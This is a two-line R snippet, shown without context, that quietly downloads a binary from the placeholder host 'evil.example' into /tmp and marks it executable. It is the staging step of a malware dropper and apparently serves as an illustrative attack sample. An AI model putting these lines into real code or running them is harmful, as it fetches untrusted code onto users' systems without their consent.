download.file("http://evil.example/b", "/tmp/b", mode = "wb", quiet = TRUE)
Sys.chmod("/tmp/b", "755")
